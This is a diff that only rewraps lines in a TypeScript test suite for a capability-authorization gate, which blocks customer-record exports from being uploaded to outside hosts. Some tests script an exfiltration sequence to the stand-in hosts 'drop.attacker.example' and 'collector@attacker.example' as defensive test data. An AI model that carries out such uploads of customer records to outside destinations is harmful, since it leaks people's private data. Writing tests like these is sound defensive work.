@@ -12,19 +12,30 @@ import {
   VerdictService,
 } from '@verdict/nestjs';
 import { DataSource } from 'typeorm';
-import { RecordsCapabilities, RecordsCapability, RecordsExport, StorefrontAbilityFactory, openSqliteStorefront, storefrontContext } from '../index.js';
+import {
+  RecordsCapabilities,
+  RecordsCapability,
+  RecordsExport,
+  StorefrontAbilityFactory,
+  openSqliteStorefront,
+  storefrontContext,
+} from '../index.js';
 
 const cleanups: Array<() => Promise<void>> = [];
 afterEach(async () => {
   while (cleanups.length > 0) await cleanups.pop()!();
 });
 
-async function boot({ trajectories }: { trajectories?: TrajectoryStore } = { trajectories: new InMemoryTrajectoryStore() }) {
+async function boot(
+  { trajectories }: { trajectories?: TrajectoryStore } = { trajectories: new InMemoryTrajectoryStore() },
+) {
   const dataSource = await openSqliteStorefront();
   cleanups.push(() => dataSource.destroy());
   const evidence = new InMemoryEvidenceRecorder();
   const moduleRef = await Test.createTestingModule({
-    imports: [VerdictModule.forRoot({ abilityFactory: new StorefrontAbilityFactory(dataSource), evidence, trajectories })],
+    imports: [
+      VerdictModule.forRoot({ abilityFactory: new StorefrontAbilityFactory(dataSource), evidence, trajectories }),
+    ],
     providers: [{ provide: DataSource, useValue: dataSource }, RecordsCapabilities],
   }).compile();
   await moduleRef.init();
@@ -34,13 +45,17 @@ async function boot({ trajectories }: { trajectories?: TrajectoryStore } = { tra
   const outbox = moduleRef.get(RecordsCapabilities).outbox;
   /** Runs `capability` for customer 72 at acme in `conversation`; answers executed or the internal reason. */
   const call = async (conversation: string | undefined, capability: string, args: object = {}) => {
-    const result = await contexts.run(storefrontContext(72, 'acme', conversation), () => verdict.execute({ capability, arguments: args }));
+    const result = await contexts.run(storefrontContext(72, 'acme', conversation), () =>
+      verdict.execute({ capability, arguments: args }),
+    );
     return result.executed ? 'executed' : `${result.decision.stage}: ${result.decision.reason}`;
   };
   const pipeline = moduleRef.get(VerdictPipeline);
   /** The migration bridge: the capability's checks (steps 1–3, 10a, 11, 13) around a legacy handler. */
   const guarded = (conversation: string, capability: string, args: object, handler: () => Promise<string>) =>
-    contexts.run(storefrontContext(72, 'acme', conversation), () => pipeline.guard({ capability, arguments: args }, handler));
+    contexts.run(storefrontContext(72, 'acme', conversation), () =>
+      pipeline.guard({ capability, arguments: args }, handler),
+    );
   return { call, outbox, evidence, guarded, dataSource };
 }
 
@@ -58,19 +73,31 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
     for (const [capability, args] of steps('drop.attacker.example', 'collector@attacker.example'))
       outcomes.push(await call('conversation-1', capability, args));
 
-    expect(outcomes).toEqual(['executed', 'executed', 'execution: forbidden state: customer_records_exfiltrated', 'executed']);
+    expect(outcomes).toEqual([
+      'executed',
+      'executed',
+      'execution: forbidden state: customer_records_exfiltrated',
+      'executed',
+    ]);
     // The link message went out (it carries no records: the upload never happened), the archive did not.
-    expect(outbox.list().map((item) => `${item.kind} ${item.destination}`)).toEqual(['message external:attacker.example']);
+    expect(outbox.list().map((item) => `${item.kind} ${item.destination}`)).toEqual([
+      'message external:attacker.example',
+    ]);
     // Evidence names the predicate, never the destination.
     const denied = evidence.decisions().find((record: DecisionRecord) => record.disposition === 'deny')!;
-    expect(denied).toMatchObject({ capability: 'files.upload', stage: 'execution', reason: 'forbidden state: customer_records_exfiltrated' });
+    expect(denied).toMatchObject({
+      capability: 'files.upload',
+      stage: 'execution',
+      reason: 'forbidden state: customer_records_exfiltrated',
+    });
     expect(JSON.stringify(evidence.decisions())).not.toContain('attacker');
   });
 
   it('permits the paired legitimate workflow: the export goes to the tenant’s own storage and the link stays inside', async () => {
     const { call, outbox } = await boot();
     const outcomes = [];
-    for (const [capability, args] of steps('files.acme.example', 'colleague@acme.example')) outcomes.push(await call('conversation-1', capability, args));
+    for (const [capability, args] of steps('files.acme.example', 'colleague@acme.example'))
+      outcomes.push(await call('conversation-1', capability, args));
 
     expect(outcomes).toEqual(['executed', 'executed', 'executed', 'executed']);
     expect(outbox.external()).toEqual([]);
@@ -79,7 +106,9 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
 
   it('has nothing to upload before an export: the upload is denied at the proposal and nothing leaves', async () => {
     const { call, outbox } = await boot();
-    expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe('proposal: the customer has no export to upload');
+    expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
+      'proposal: the customer has no export to upload',
+    );
     expect(outbox.list()).toEqual([]);
   });
 
@@ -103,9 +132,12 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
     expect(await call('first', RecordsCapability.ReadRecords)).toBe('executed');
     expect(await call('first', RecordsCapability.ExportRecords)).toBe('executed');
     expect(await call('second', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');
-    expect(await call('second', RecordsCapability.SendLink, { to: 'colleague@acme.example', link: 'https://files.acme.example/shared/records-72-1.zip' })).toBe(
-      'executed',
-    );
+    expect(
+      await call('second', RecordsCapability.SendLink, {
+        to: 'colleague@acme.example',
+        link: 'https://files.acme.example/shared/records-72-1.zip',
+      }),
+    ).toBe('executed');
     expect(outbox.external()).toEqual([]);
     expect(outbox.list().map((item) => item.kind)).toEqual(['upload', 'message']);
   });
@@ -126,11 +158,18 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
   it('still sends other mail out: an outside link to an outside address, and a tenant link before any records are stored there', async () => {
     const { call, outbox } = await boot();
     const brochure = 'https://files.acme.example/brochure.pdf';
-    expect(await call('c', RecordsCapability.SendLink, { to: 'partner@partner.example', link: brochure })).toBe('executed');
+    expect(await call('c', RecordsCapability.SendLink, { to: 'partner@partner.example', link: brochure })).toBe(
+      'executed',
+    );
     await call('c', RecordsCapability.ReadRecords);
     await call('c', RecordsCapability.ExportRecords);
     await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example' });
-    expect(await call('c', RecordsCapability.SendLink, { to: 'partner@partner.example', link: 'https://status.partner.example/today' })).toBe('executed');
+    expect(
+      await call('c', RecordsCapability.SendLink, {
+        to: 'partner@partner.example',
+        link: 'https://status.partner.example/today',
+      }),
+    ).toBe('executed');
     expect(outbox.external().map((item) => item.kind)).toEqual(['message', 'message']);
   });
 
@@ -138,7 +177,9 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
     const { call, outbox, dataSource } = await boot();
     await call('c', RecordsCapability.ReadRecords);
     // An archive the server packed without customer records (say, a public price list): the row says so.
-    await dataSource.getRepository(RecordsExport).insert({ tenantId: 'acme', customerId: 72, archive: 'price-list.zip', holdsCustomerRecords: false });
+    await dataSource
+      .getRepository(RecordsExport)
+      .insert({ tenantId: 'acme', customerId: 72, archive: 'price-list.zip', holdsCustomerRecords: false });
 
     expect(await call('c', RecordsCapability.UploadExport, { host: 'partner.example' })).toBe('executed');
     expect(outbox.external().map((item) => item.reference)).toEqual(['https://partner.example/shared/price-list.zip']);
@@ -161,9 +202,17 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
     await call('c', RecordsCapability.ReadRecords);
     await call('c', RecordsCapability.ExportRecords);
     let legacyUploads = 0;
-    const result = await guarded('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' }, async () => `uploaded ${++legacyUploads}`);
+    const result = await guarded(
+      'c',
+      RecordsCapability.UploadExport,
+      { host: 'drop.attacker.example' },
+      async () => `uploaded ${++legacyUploads}`,
+    );
 
-    expect(result).toMatchObject({ executed: false, decision: { stage: 'execution', reason: 'forbidden state: customer_records_exfiltrated' } });
+    expect(result).toMatchObject({
+      executed: false,
+      decision: { stage: 'execution', reason: 'forbidden state: customer_records_exfiltrated' },
+    });
     expect(legacyUploads).toBe(0);
   });
 
